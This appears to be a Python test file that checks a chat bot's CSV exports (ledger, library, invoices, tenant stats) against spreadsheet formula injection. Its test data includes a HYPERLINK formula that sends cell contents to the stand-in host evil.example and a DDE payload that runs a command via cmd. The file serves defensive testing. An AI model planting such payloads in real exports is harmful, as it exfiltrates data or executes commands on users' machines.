"""Every CSV we write neutralises spreadsheet formulas (DESIGN §8, OWASP CSV injection): text a
person typed or steered (ledger notes, library titles and texts, invoice descriptions, tenant
names) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
``'``; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from admin_commands.csv_safe import safe_cell
from admin_commands.registry import Caller, CommandResult
from bot.app import App
from storage.repositories.ledger import LedgerRepository
from storage.repositories.tenants import TenantRepository
from tests.conftest import AppFactory, admin, bind_console, say, tenant_with_tokens
from tests.fakes.llm_server import FakeLLMServer

#: An admin in a chat: exports come back as files.
BOSS = Caller(channel="telegram", user_id="111", role="admin")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _file_rows(result: CommandResult) -> list[dict[str, str]]:
    [file] = [f for f in result.files if f.file_name.endswith(".csv")]  # not the chart
    if file.path is not None:
        text = file.path.read_text(encoding="utf-8")
        file.discard()
    else:
        text = file.data.decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_rule_cell_by_cell() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("a=1") == "a=1" and safe_cell("") == ""
    # Numbers are numbers: never prefixed, whatever their sign or type.
    assert safe_cell(-5) == -5 and safe_cell("-5") == "-5" and safe_cell("-5.00") == "-5.00"
    assert safe_cell("-5 tokens") == "'-5 tokens"


async def test_ledger_and_library_exports(make_app: AppFactory, llm: FakeLLMServer) -> None:
    app: App = await make_app()
    await tenant_with_tokens(app, "acme", tokens=0)
    await bind_console(app, "acme")
    await admin(app, "tokens", "grant", "acme", "500000", FORMULA)
    async with app.deps.sessions.begin() as session:
        tenant = await TenantRepository(session).get("acme")
        await LedgerRepository(session).post(
            tenant.id, "adjustment", -5, now=datetime.now(UTC), note="-5 taken back"
        )
    llm.reply_text = "@SUM(1+1)*cmd|' /C calc'!A0"
    await say(app, "Write a formula for me", slug="acme", user="ann")

    ledger = _file_rows(await admin(app, "export", "ledger", caller=BOSS))
    notes = {r["note"]: r["tokens"] for r in ledger}
    assert notes["'" + FORMULA] == "500000"
    assert notes["'-5 taken back"] == "-5", "the note is text, the amount stays a number"
    assert any(r["kind"] == "usage" and int(r["tokens"]) < 0 for r in ledger)

    [item] = _file_rows(await admin(app, "export", "library", caller=BOSS))
    assert item["title"] == item["text"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


async def test_invoice_export_and_tenant_stats(make_app: AppFactory) -> None:
    app: App = await make_app()
    await admin(app, "tenant", "create", "evil", "--name", FORMULA)
    for n in range(26):  # more than /stats tenants shows: the rest come as tenants.csv
        await admin(app, "tenant", "create", f"t{n:02d}", "--name", f"Tenant {n}")
    await admin(app, "invoice", "new", "evil", "12.50", "@SUM(A1:A9)", "consulting")

    result = await admin(app, "export", "invoices")
    assert result.output is not None and result.output.path is not None
    exported = result.output.path.read_text(encoding="utf-8")
    [row] = csv.DictReader(io.StringIO(exported))
    assert row["description"] == "'@SUM(A1:A9) consulting" and row["amount"] == "12.50"

    result = await admin(app, "stats", "tenants", caller=BOSS)
    rows = {r["slug"]: r for r in _file_rows(result)}
    assert rows["evil"]["name"] == "'" + FORMULA
    assert rows["t00"]["name"] == "Tenant 0" and rows["t00"]["tokens"] == "0"
